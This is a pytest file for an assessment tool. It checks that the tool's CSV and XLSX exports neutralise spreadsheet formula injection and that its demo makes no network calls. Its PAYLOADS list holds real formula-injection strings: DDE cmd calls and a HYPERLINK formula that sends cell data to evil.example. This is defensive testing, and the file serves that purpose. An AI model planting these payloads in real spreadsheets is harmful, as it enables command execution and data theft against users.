"""Hostile input: formulas in every CSV and XLSX we write, and no network anywhere.

Hostile inputs run under a memory limit and a timeout are in tests/test_hostile_bounds.py.
Other hostile-input tests live beside the code they guard: HTML escaping of every
free-text field (tests/report/test_xss.py), the template sandbox
(tests/report/test_templates.py), unit ids as file names (tests/batch/test_unit_reports.py).
"""

from __future__ import annotations

import csv
import io
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from ruamel.yaml import YAML

from capassess.cli import main
from tests.conftest import TINY

# What a spreadsheet would run: the first character is one of = + - @ tab CR.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
RISKY_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def risky(value: object) -> bool:
    """True when a spreadsheet would treat this cell text as a formula."""
    return isinstance(value, str) and value.startswith(RISKY_START) and not _is_number(value)


def _poison(node: Any, counter: Iterator[int]) -> Any:
    """Replace every bilingual text of a questionnaire with a distinct formula payload."""
    if isinstance(node, dict):
        if set(node) <= {"en", "zh"} and node:
            i = next(counter)
            payload = PAYLOADS[i % len(PAYLOADS)]
            return {lang: f"{payload} {lang}{i}" for lang in node}
        return {key: _poison(value, counter) for key, value in node.items()}
    if isinstance(node, list):
        return [_poison(value, counter) for value in node]
    return node


@pytest.fixture(scope="module")
def hostile_questionnaire(tmp_path_factory: pytest.TempPathFactory) -> Path:
    yaml = YAML(typ="safe", pure=True)
    data = _poison(yaml.load(TINY.read_text(encoding="utf-8")), iter(range(10_000)))
    path = tmp_path_factory.mktemp("hostile") / "tiny.yaml"
    with path.open("w", encoding="utf-8") as handle:
        YAML(typ="safe", pure=True).dump(data, handle)
    return path


def xlsx_cells(path: Path) -> list[tuple[str, str, object, str]]:
    """(sheet, cell, value, data type) of every cell in every sheet of a workbook."""
    book = load_workbook(path)  # not read-only: data types show formulas as 'f'
    return [
        (sheet.title, cell.coordinate, cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def csv_cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_xlsx_is_inert(path: Path) -> None:
    cells = xlsx_cells(path)
    assert cells, path
    formulas = [c for c in cells if c[3] == "f"]
    assert not formulas, formulas[:5]
    assert not [c for c in cells if risky(c[2])], [c for c in cells if risky(c[2])][:5]


def assert_csv_is_inert(path: Path) -> None:
    cells = csv_cells(path)
    assert cells, path
    assert not [c for c in cells if risky(c)], [c for c in cells if risky(c)][:5]


def test_the_hostile_questionnaire_is_valid(hostile_questionnaire: Path) -> None:
    result = CliRunner().invoke(main, ["validate", str(hostile_questionnaire)])
    assert result.exit_code == 0, result.output
    text = hostile_questionnaire.read_text(encoding="utf-8")
    assert text.count("HYPERLINK") >= 5 and text.count("cmd|") >= 15


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_template_xlsx_holds_no_formula(hostile_questionnaire: Path, tmp_path: Path, lang) -> None:
    out = tmp_path / "sheet.xlsx"
    args = ["template", "-q", str(hostile_questionnaire), "-o", str(out), "--lang", lang]
    result = CliRunner().invoke(main, [*args, "--group", "=region"])
    assert result.exit_code == 0, result.output
    sheets = {c[0] for c in xlsx_cells(out)}
    assert {"questions"} <= sheets and len(sheets) >= 2
    # The question texts and option labels are there, as inert text.
    texts = [str(c[2]) for c in xlsx_cells(out)]
    assert any("HYPERLINK" in t for t in texts) and any("cmd|" in t for t in texts)
    assert_xlsx_is_inert(out)


def test_template_csv_holds_no_formula(hostile_questionnaire: Path, tmp_path: Path) -> None:
    out = tmp_path / "sheet.csv"
    args = ["template", "-q", str(hostile_questionnaire), "-o", str(out), "--group", "=region"]
    args.append("--labels")
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    assert any("cmd|" in cell for cell in csv_cells(out))
    assert_csv_is_inert(out)


def test_batch_outputs_hold_no_formula(hostile_questionnaire: Path, tmp_path: Path) -> None:
    header = ["id", "name", "=region", "g-level", "g-choice", "a-multi", "a-number", "a-bool"]
    header.append("o-api")
    rows = [header]
    for i, payload in enumerate(PAYLOADS):
        rows.append([f"{payload}#{i}", payload, payload, "3", "partial", "bi", "12", "yes", "40"])
    # Rejected cells carry the payload into rejected.csv too.
    rows.append(["=BAD()", "@x", "-y", payload, "=1", "+2", "=A1", "@b", "-c"])
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    out = tmp_path / "out"
    args = ["batch", str(source), "-o", str(out), "-q", str(hostile_questionnaire)]
    result = CliRunner().invoke(main, [*args, "--group-by", "=region", "--allow-rejects"])
    assert result.exit_code == 0, result.output
    written = sorted(p.name for p in out.iterdir())
    csvs = [out / n for n in written if n.endswith(".csv")]
    xlsxs = [out / n for n in written if n.endswith(".xlsx")]
    assert {"scores.csv", "rejected.csv"} <= {p.name for p in csvs} and xlsxs
    assert len(csv_cells(out / "rejected.csv")) > 10
    for path in csvs:
        assert_csv_is_inert(path)
    for path in xlsxs:
        assert_xlsx_is_inert(path)


class NetworkUsed(AssertionError):
    """Raised by the blocked socket functions."""


def test_the_demo_uses_no_network(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    attempts: list[str] = []

    def refuse(name: str) -> Any:
        def blocked(*args: object, **kwargs: object) -> Any:
            attempts.append(f"{name}{args!r}")
            raise NetworkUsed(f"network access during the demo: {name}{args!r}")

        return blocked

    for name in ("getaddrinfo", "gethostbyname", "create_connection", "socketpair"):
        monkeypatch.setattr(socket, name, refuse(name))
    for name in ("connect", "connect_ex", "bind", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse(f"socket.{name}"))

    result = CliRunner().invoke(main, ["demo", "-o", str(tmp_path / "demo")])
    assert result.exit_code == 0, result.output
    assert attempts == []
    html = sorted((tmp_path / "demo").rglob("*.html"))
    assert len(html) >= 3
    for path in html:
        text = path.read_text(encoding="utf-8")
        for marker in ('src="http', "src='http", "url(http", '<link rel="stylesheet" href="http'):
            assert marker not in text, (path, marker)


def test_the_network_block_is_real(monkeypatch: pytest.MonkeyPatch) -> None:
    # The same blocking, shown to catch a connection attempt.
    def blocked(*args: object, **kwargs: object) -> Any:
        raise NetworkUsed("blocked")

    monkeypatch.setattr(socket.socket, "connect", blocked)
    with socket.socket() as sock, pytest.raises(NetworkUsed):
        sock.connect(("127.0.0.1", 9))
